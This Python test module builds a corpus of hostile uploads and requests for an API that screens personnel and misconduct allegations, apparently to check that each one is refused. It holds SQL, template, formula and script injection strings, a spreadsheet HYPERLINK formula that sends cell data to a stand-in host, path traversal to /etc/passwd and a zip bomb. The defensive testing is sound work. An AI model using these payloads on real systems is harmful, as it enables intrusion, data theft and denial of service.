"""The hostile-input corpus: files and request bodies that a careless or malicious sender
might post, built deterministically here instead of checked in as binary fixtures.

Every case is meant to be refused with a 4xx problem whose message contains `fragment`;
text that is legitimately acceptable (an injection string as a name) lives in
`ACCEPTED_NAMES` and is tested for verbatim storage and escaped export instead.
"""

from __future__ import annotations

import gzip
import io
import json
import random
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass

from openpyxl import Workbook

PERSONNEL = "/v1/submissions/personnel"
DEPLOYMENTS = "/v1/submissions/deployments"
ALLEGATIONS = "/v1/submissions/allegations"
CHECKS = "/v1/checks"
SCREENINGS = "/v1/screenings"
SUBMISSIONS = (PERSONNEL, DEPLOYMENTS, ALLEGATIONS)

CSV = "text/csv"
JSON = "application/json"
JSONL = "application/x-ndjson"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
OCTETS = "application/octet-stream"

HEADER = "record_id,family_name,given_names,date_of_birth,nationality,sex"
GOOD_ROW = "H1,Karim,Abdul,1985-03-14,BGD,M"
# Configured in the suite's app: small enough that the limit cases stay fast.
MAX_UPLOAD_BYTES = 2 * 1024 * 1024
MAX_ROWS = 50

SQL_INJECTIONS = (
    "' OR '1'='1",
    "Robert'); DROP TABLE personnel_records;--",
    "1; SELECT pg_sleep(5)--",
    '" OR 1=1 --',
    "' UNION SELECT passport_number FROM personnel_records--",
)
TEMPLATE_INJECTIONS = ("{{7*7}}", "${7*7}", "<%= 7*7 %>", "{% debug %}", "#{7*7}")
FORMULAS = (
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
)
MARKUP = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>")
# Names a sender may legitimately write: any script, joiners, marks. Stored verbatim.
ACCEPTED_NAMES = (
    *SQL_INJECTIONS,
    *TEMPLATE_INJECTIONS,
    *FORMULAS,
    *MARKUP,
    "Ka\u200brim",  # zero-width space
    "\u0645\u06cc\u200c\u0631\u0632\u0627",  # Persian with a zero-width non-joiner: legitimate
    "Kar\u202eim",  # right-to-left override
    "\u202bKarim\u202c",  # right-to-left embedding
    "\u041a\u0430rim",  # Cyrillic Ka and a in a Latin name: a confusable
    "K\u0430r\u0456m",
    "\uff2b\uff41\uff52\uff49\uff4d",  # fullwidth
)


@dataclass(frozen=True)
class HostileCase:
    """One request: where it goes, what it carries, and what the refusal must say."""

    name: str
    path: str
    body: bytes
    content_type: str
    fragment: str
    statuses: frozenset[int] = frozenset({422})
    query: str = ""

    @property
    def url(self) -> str:
        """Path and query string."""
        return f"{self.path}?{self.query}" if self.query else self.path


def _case(
    name: str,
    path: str,
    body: bytes | str,
    content_type: str,
    fragment: str,
    *statuses: int,
    query: str = "",
) -> HostileCase:
    data = body.encode("utf-8") if isinstance(body, str) else body
    return HostileCase(
        name, path, data, content_type, fragment, frozenset(statuses or (422,)), query
    )


def _csv(*rows: str, header: str = HEADER) -> str:
    return "\n".join([header, *rows]) + "\n"


def _xlsx(rows: list[list[object]]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _good_xlsx() -> bytes:
    return _xlsx([HEADER.split(","), GOOD_ROW.split(",")])


def encoding_cases() -> Iterator[HostileCase]:
    """Text that is not in the encoding it claims, or in several at once."""
    mixed = _csv("H1,Müller,Jörg,1985-03-14,DEU,M").encode() + "H2,Müller,Jörg,,DEU,M\n".encode(
        "latin-1"
    )
    yield _case("mixed_utf8_latin1", PERSONNEL, mixed, CSV, "mixes UTF-8")
    utf16_no_bom = _csv(GOOD_ROW).encode("utf-16-le")
    yield _case("utf16_without_bom", PERSONNEL, utf16_no_bom, CSV, "NUL")
    utf16_odd = b"\xff\xfe" + _csv(GOOD_ROW).encode("utf-16-le") + b"\x00"
    yield _case("utf16_odd_length", PERSONNEL, utf16_odd, CSV, "utf-16")
    utf32 = _csv(GOOD_ROW).encode("utf-32")
    yield _case("utf32", PERSONNEL, utf32, CSV, "UTF-32")
    yield _case("utf32_big_endian", PERSONNEL, _csv(GOOD_ROW).encode("utf-32-be"), CSV, "NUL")
    accented = _csv("H1,Müller,Jörg,,DEU,M").encode()
    overlong = accented + b"H2,Kar\xc0\xafim,Abdul,,BGD,M\n"
    yield _case("overlong_utf8_slash", PERSONNEL, overlong, CSV, "mixes UTF-8")
    surrogate = accented + b"H2,\xed\xa0\x80Karim,,,BGD,\n"
    yield _case("utf8_encoded_surrogate", PERSONNEL, surrogate, CSV, "mixes UTF-8")
    bad_json = (
        '{"record_id": "H1", "family_name": "Müller"}\n'.encode()
        + b'{"record_id": "H2", "family_name": "Kar\xff\xfeim"}\n'
    )
    yield _case("jsonl_invalid_utf8", PERSONNEL, bad_json, JSONL, "mixes UTF-8")
    check_latin1 = json.dumps({"family_name": "Müller"}, ensure_ascii=False).encode("latin-1")
    yield _case("check_latin1_json", CHECKS, check_latin1, JSON, "JSON", 400)
    roster_mixed = _csv("R1,Müller,Jörg,,DEU,M").encode() + "R2,Müller,,,DEU,\n".encode("latin-1")
    yield _case("roster_mixed_utf8_latin1", SCREENINGS, roster_mixed, CSV, "mixes UTF-8")
    roster_utf16 = _csv(GOOD_ROW).encode("utf-16-be")
    yield _case("roster_utf16_without_bom", SCREENINGS, roster_utf16, CSV, "NUL")


def binary_cases() -> Iterator[HostileCase]:
    """Files that are not text or spreadsheets at all."""
    rng = random.Random(8)
    noise = bytes(rng.getrandbits(8) for _ in range(4096))
    blobs = {
        "random_bytes": noise,
        "png": b"\x89PNG\r\n\x1a\n" + noise[:512],
        "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n" + noise[:256],
        "elf": b"\x7fELF\x02\x01\x01\x00" + bytes(56) + noise[:256],
        "gzip_csv": gzip.compress(_csv(GOOD_ROW).encode(), mtime=0),
        "all_zero": bytes(2048),
        "legacy_xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
    }
    for name, blob in blobs.items():
        fragment = "legacy Excel" if name == "legacy_xls" else "NUL"
        yield _case(f"binary_{name}", PERSONNEL, blob, OCTETS, fragment)
    yield _case("binary_as_csv_roster", SCREENINGS, noise, CSV, "NUL")
    yield _case("binary_as_xlsx_roster", SCREENINGS, noise, XLSX, "workbook")
    yield _case("binary_as_jsonl", ALLEGATIONS, noise, JSONL, "NUL")
    yield _case("zip_not_a_workbook", PERSONNEL, _zip({"a.txt": b"hello"}), XLSX, "workbook")
    yield _case("png_as_json_check", CHECKS, b"\x89PNG\r\n\x1a\n" + noise[:64], JSON, "JSON", 400)


def truncated_cases() -> Iterator[HostileCase]:
    """Files cut off part-way, as an interrupted upload leaves them."""
    quoted = _csv('H1,"Karim, Abdul', header=HEADER)
    yield _case("csv_unclosed_quote", PERSONNEL, quoted, CSV, "malformed CSV")
    yield _case("roster_unclosed_quote", SCREENINGS, quoted, CSV, "malformed CSV")
    yield _case("csv_header_cut", PERSONNEL, "record_id,family_na", CSV, "unknown column")
    good = _good_xlsx()
    for share in (0.1, 0.5, 0.9, 0.99):
        cut = good[: int(len(good) * share)]
        yield _case(f"xlsx_truncated_{int(share * 100)}", PERSONNEL, cut, XLSX, "workbook")
    yield _case("xlsx_truncated_roster", SCREENINGS, good[: len(good) // 2], XLSX, "workbook")
    line = json.dumps({"record_id": "H1", "family_name": "Karim"})
    yield _case("jsonl_cut_mid_object", PERSONNEL, line[:-12], JSONL, "not valid JSON")
    yield _case("jsonl_cut_mid_string", PERSONNEL, line[:20], JSONL, "not valid JSON")
    yield _case("check_json_cut", CHECKS, line[:-5], JSON, "JSON", 400)
    roster = json.dumps({"roster": [{"record_id": "R1", "family_name": "Karim"}]})
    yield _case("roster_json_cut", SCREENINGS, roster[:-3], JSON, "roster")
    yield _case("empty_body_submission", PERSONNEL, b"", CSV, "record_id")
    yield _case("empty_body_check", CHECKS, b"", JSON, "JSON", 400)
    yield _case("empty_body_roster", SCREENINGS, b"", CSV, "record_id")


def enormous_cases() -> Iterator[HostileCase]:
    """Fields, rows and bodies far past any real record."""
    huge = "K" * 200_000
    yield _case("csv_200k_char_name", PERSONNEL, _csv(f"H1,{huge},,,BGD,"), CSV, "field limit")
    yield _case("csv_200k_char_id", PERSONNEL, _csv(f"{huge},Karim,,,BGD,"), CSV, "field limit")
    long_name = _csv(f"H1,{huge[:5000]},,,BGD,")
    yield _case("csv_5000_char_name", PERSONNEL, long_name, CSV, "longer than")
    yield _case("roster_5000_char_name", SCREENINGS, long_name, CSV, "longer than")
    yield _case("csv_200k_char_header", PERSONNEL, huge + "\n", CSV, "field limit")
    yield _case("roster_200k_char_header", SCREENINGS, huge + "\n", CSV, "field limit")
    wide = ",".join(f"c{i}" for i in range(5000))
    yield _case("csv_5000_columns", PERSONNEL, _csv("x", header=wide), CSV, "unknown column")
    many_cells = GOOD_ROW + ",x" * 20_000
    yield _case("csv_20000_cells_row", PERSONNEL, _csv(many_cells), CSV, "cells")
    one_line = "H1,Karim" + "," * 10 + "x" * (MAX_UPLOAD_BYTES // 2)
    yield _case("csv_1mb_line", PERSONNEL, _csv(one_line), CSV, "field limit")
    rows = [f"H{i},Karim,Abdul,1985-03-14,BGD,M" for i in range(MAX_ROWS + 1)]
    yield _case("csv_too_many_rows", PERSONNEL, _csv(*rows), CSV, "split", 413)
    yield _case("roster_too_many_rows", SCREENINGS, _csv(*rows), CSV, "split", 413)
    over = _csv(*[GOOD_ROW] * (MAX_UPLOAD_BYTES // len(GOOD_ROW) + 10))
    yield _case("body_over_upload_limit", PERSONNEL, over, CSV, "limit", 413)
    yield _case("roster_body_over_upload_limit", SCREENINGS, over, CSV, "limit", 413)
    big_check = json.dumps({"family_name": "K" * (MAX_UPLOAD_BYTES + 10)})
    yield _case("check_body_over_upload_limit", CHECKS, big_check, JSON, "limit", 413)
    yield _case("check_100k_name", CHECKS, json.dumps({"family_name": huge[:100_000]}), JSON, "300")
    yield _case(
        "xlsx_200k_char_cell",
        PERSONNEL,
        _xlsx([["record_id", "family_name"], ["H1", huge]]),
        XLSX,
        "longer than",
    )
    bomb = _zip({"[Content_Types].xml": b"<x/>", "xl/worksheets/sheet1.xml": b" " * 50_000_000})
    yield _case("xlsx_zip_bomb", PERSONNEL, bomb, XLSX, "workbook")
    alias_list = ";".join(["Karim"] * 2000)
    yield _case(
        "check_2000_aliases",
        CHECKS,
        json.dumps({"family_name": "K", "aliases": alias_list}),
        JSON,
        "aliases",
    )


def _bad_cells() -> Iterator[tuple[str, str, str]]:
    """(case name, personnel row, column that must be named) for hostile text in coded fields."""
    for i, text in enumerate((*SQL_INJECTIONS[:3], *FORMULAS[:3], *TEMPLATE_INJECTIONS[:2])):
        cell = text.replace('"', "'").replace(",", ";")
        yield f"nationality_injection_{i}", f'H1,Karim,,,"{cell}",', "nationality"
        yield f"date_injection_{i}", f'H1,Karim,,"{cell}",BGD,', "date_of_birth"
    confusables = {
        "nationality_cyrillic_B": "H1,Karim,,,\u0412GD,",
        "nationality_zero_width": "H1,Karim,,,BG\u200bD,",
        "nationality_rlo": "H1,Karim,,,\u202eDGB,",
        "nationality_fullwidth": "H1,Karim,,,\uff22\uff27\uff24,",
        "sex_cyrillic_M": "H1,Karim,,,BGD,\u041c",
        "sex_nul": "H1,Karim,,,BGD,M\u0000",
        "date_letter_o_for_zero": "H1,Karim,,1985-O3-14,BGD,",
        "date_superscript_digits": "H1,Karim,,\u00b9985-03-14,BGD,",
    }
    for name, row in confusables.items():
        column = {"sex": "sex", "nat": "nationality", "dat": "date_of_birth"}[name[:3]]
        yield name, row, "NUL" if name == "sex_nul" else column


def coded_field_cases() -> Iterator[HostileCase]:
    """Injection strings, formulas, confusables and controls where only a code is allowed."""
    for name, row, column in _bad_cells():
        yield _case(f"submission_{name}", PERSONNEL, _csv(row), CSV, column)
    allegation = "source_reference,subject_record_id,category,status\n"
    for i, category in enumerate(("sexual_abus\u0435", "other' OR 1=1--", "=other")):
        body = allegation + f"S1,H1,{category},reported\n"
        yield _case(f"allegation_category_{i}", ALLEGATIONS, body, CSV, "category")
    for i, status in enumerate(("substantiat\u0435d", "{{status}}", "reported\u0000")):
        body = allegation + f"S1,H1,other,{status}\n"
        yield _case(f"allegation_status_{i}", ALLEGATIONS, body, CSV, "NUL" if i == 2 else "status")
    deployment = "record_id,mission\nH1,MINUSCA'; DROP TABLE deployments;--\n"
    yield _case("deployment_mission_sql", DEPLOYMENTS, deployment, CSV, "mission")
    spoofed = "fаmily_name"  # Cyrillic a in a column name
    yield _case(
        "header_confusable",
        PERSONNEL,
        _csv("H1,Karim", header=f"record_id,{spoofed}"),
        CSV,
        "unknown column",
    )
    yield _case(
        "header_sql",
        PERSONNEL,
        _csv("H1,Karim", header="record_id,family_name; DROP"),
        CSV,
        "unknown column",
    )
    yield _case(
        "header_zero_width",
        PERSONNEL,
        _csv("H1,K", header="record_id,family\u200b_name"),
        CSV,
        "unknown column",
    )
    victim = (
        "source_reference,subject_record_id,category,status,victim_name\nS1,H1,other,reported,X\n"
    )
    yield _case("allegation_victim_column", ALLEGATIONS, victim, CSV, "victim_name")


def null_byte_cases() -> Iterator[HostileCase]:
    """NUL bytes at the start, deep inside a file, and inside JSON strings."""
    yield _case("csv_nul_at_start", PERSONNEL, "\x00" + _csv(GOOD_ROW), CSV, "NUL")
    padding = [f"P{i},Karim {'A' * 250},Abdul,1985-03-14,BGD,M" for i in range(20)]
    deep = _csv(*padding, "H1,Ka\x00rim,,,BGD,")
    yield _case("csv_nul_after_4k", PERSONNEL, deep, CSV, "NUL")
    yield _case("roster_nul_after_4k", SCREENINGS, deep, CSV, "NUL")
    jsonl = json.dumps({"record_id": "H1", "family_name": "Ka\x00rim"}) + "\n"
    yield _case("jsonl_escaped_nul", PERSONNEL, jsonl, JSONL, "NUL")
    yield _case("check_escaped_nul", CHECKS, json.dumps({"family_name": "Ka\x00rim"}), JSON, "NUL")
    roster = json.dumps({"roster": [{"record_id": "R1", "family_name": "Ka\x00rim"}]})
    yield _case("roster_json_escaped_nul", SCREENINGS, roster, JSON, "NUL")
    record_id = json.dumps({"roster": [{"record_id": "R\x001", "family_name": "Karim"}]})
    yield _case("roster_json_nul_record_id", SCREENINGS, record_id, JSON, "NUL")


def json_cases() -> Iterator[HostileCase]:
    """Bodies that are JSON of the wrong shape, depth, type or size."""
    deep = "[" * 100_000 + "]" * 100_000
    yield _case("check_deeply_nested_array", CHECKS, deep, JSON, "JSON", 400, 422)
    deep_object = '{"a":' * 50_000 + "1" + "}" * 50_000
    yield _case("check_deeply_nested_object", CHECKS, deep_object, JSON, "JSON", 400, 422)
    yield _case("roster_deeply_nested", SCREENINGS, '{"roster":' + deep + "}", JSON, "roster")
    yield _case("jsonl_deeply_nested_line", PERSONNEL, deep + "\n", JSONL, "nested too deeply")
    nested_value = json.dumps({"record_id": "H1", "family_name": {"$ne": None}}) + "\n"
    yield _case("jsonl_operator_object", PERSONNEL, nested_value, JSONL, "text, numbers")
    wrong_types = {
        "check_name_number": {"family_name": 5},
        "check_name_list": {"family_name": ["Karim"]},
        "check_name_object": {"family_name": {"$regex": ".*"}},
        "check_name_bool": {"family_name": True},
        "check_unknown_field_org": {"family_name": "Karim", "org": "NPL"},
        "check_unknown_field_victim": {"family_name": "Karim", "victim_name": "X"},
        "check_no_name": {"nationality": "BGD"},
        "check_sql_nationality": {"family_name": "Karim", "nationality": "' OR 1=1--"},
        "check_template_dob": {"family_name": "Karim", "date_of_birth": "{{7*7}}"},
        "check_impossible_dob": {"family_name": "Karim", "date_of_birth": "1985-02-30"},
        "check_rlo_sex": {"family_name": "Karim", "sex": "\u202eM"},
    }
    for name, body in wrong_types.items():
        field = next((k for k in body if k != "family_name"), "family_name")
        fragment = "family_name" if name == "check_no_name" else field
        yield _case(name, CHECKS, json.dumps(body), JSON, fragment)
    for name, text in {
        "check_top_level_array": "[]",
        "check_top_level_string": '"Karim"',
        "check_top_level_number": "1e400",
        "check_null": "null",
    }.items():
        yield _case(name, CHECKS, text, JSON, "", 400, 422)
    yield _case("check_nan", CHECKS, '{"family_name": NaN}', JSON, "", 400, 422)
    yield _case("check_trailing_garbage", CHECKS, '{"family_name": "K"} x', JSON, "JSON", 400)
    yield _case("check_as_csv", CHECKS, "family_name\nKarim\n", CSV, "application/json", 415)
    yield _case(
        "check_as_form",
        CHECKS,
        "family_name=Karim",
        "application/x-www-form-urlencoded",
        "application/json",
        415,
    )
    rosters = {
        "roster_not_a_list": {"roster": {"record_id": "R1"}},
        "roster_of_strings": {"roster": ["Karim"]},
        "roster_empty": {"roster": []},
        "roster_unknown_key": {"roster": [], "org": "NPL"},
        "roster_item_unknown_field": {
            "roster": [{"record_id": "R1", "family_name": "K", "org": "NPL"}]
        },
        "roster_item_nested": {"roster": [{"record_id": "R1", "family_name": ["K"]}]},
        "roster_bad_skip_flag": {
            "roster": [{"record_id": "R1", "family_name": "K"}],
            "skip_cleared": "maybe",
        },
        "roster_sql_nationality": {
            "roster": [{"record_id": "R1", "family_name": "K", "nationality": "' OR 1=1--"}]
        },
        "roster_duplicate_ids": {
            "roster": [
                {"record_id": "R1", "family_name": "K"},
                {"record_id": "R1", "family_name": "L"},
            ]
        },
    }
    for name, body in rosters.items():
        yield _case(name, SCREENINGS, json.dumps(body), JSON, "")
    many = {"roster": [{"record_id": f"R{i}", "family_name": "K"} for i in range(MAX_ROWS + 1)]}
    yield _case("roster_json_too_many_rows", SCREENINGS, json.dumps(many), JSON, "", 413)


def parameter_cases() -> Iterator[HostileCase]:
    """Hostile query parameters and path segments around an otherwise good file."""
    good = _csv(GOOD_ROW)
    params = {
        "date_format_sql": "date_format=' OR 1=1--",
        "date_format_template": "date_format={{7*7}}",
        "format_unknown": "format=exe",
        "format_path": "format=../../etc/passwd",
        "org_other": "org=NPL",
        "org_sql": "org=BGD' OR '1'='1",
    }
    for name, query in params.items():
        statuses = (403,) if name.startswith("org") else (422,)
        yield _case(f"param_{name}", PERSONNEL, good, CSV, "", *statuses, query=query)
    for name, kind in {
        "kind_sql": "personnel';DROP TABLE submissions;--",
        "kind_traversal": "..%2f..%2fetc%2fpasswd",
        "kind_template": "{{7*7}}",
        "kind_unicode": "p\u0435rsonnel",
    }.items():
        yield _case(f"path_{name}", f"/v1/submissions/{kind}", good, CSV, "", 404, 422)
    yield _case(
        "roster_skip_flag_sql",
        SCREENINGS,
        good,
        CSV,
        "skip_cleared",
        query="skip_cleared=' OR 1=1--",
    )


def all_cases() -> list[HostileCase]:
    """The whole corpus, in a stable order with unique names."""
    families = (
        encoding_cases,
        binary_cases,
        truncated_cases,
        enormous_cases,
        coded_field_cases,
        null_byte_cases,
        json_cases,
        parameter_cases,
    )
    cases = [case for family in families for case in family()]
    names = [case.name for case in cases]
    assert len(names) == len(set(names)), "corpus case names must be unique"
    return cases
